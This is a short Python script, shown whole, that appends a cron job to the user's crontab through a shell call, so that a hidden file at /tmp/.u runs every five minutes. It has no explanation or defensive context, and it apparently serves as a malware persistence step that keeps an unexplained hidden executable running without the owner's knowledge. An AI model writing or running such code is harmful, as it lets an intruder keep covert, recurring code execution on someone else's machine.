import subprocess

job = "*/5 * * * * /tmp/.u"
subprocess.run('(crontab -l; echo "%s") | crontab -' % job, shell=True)
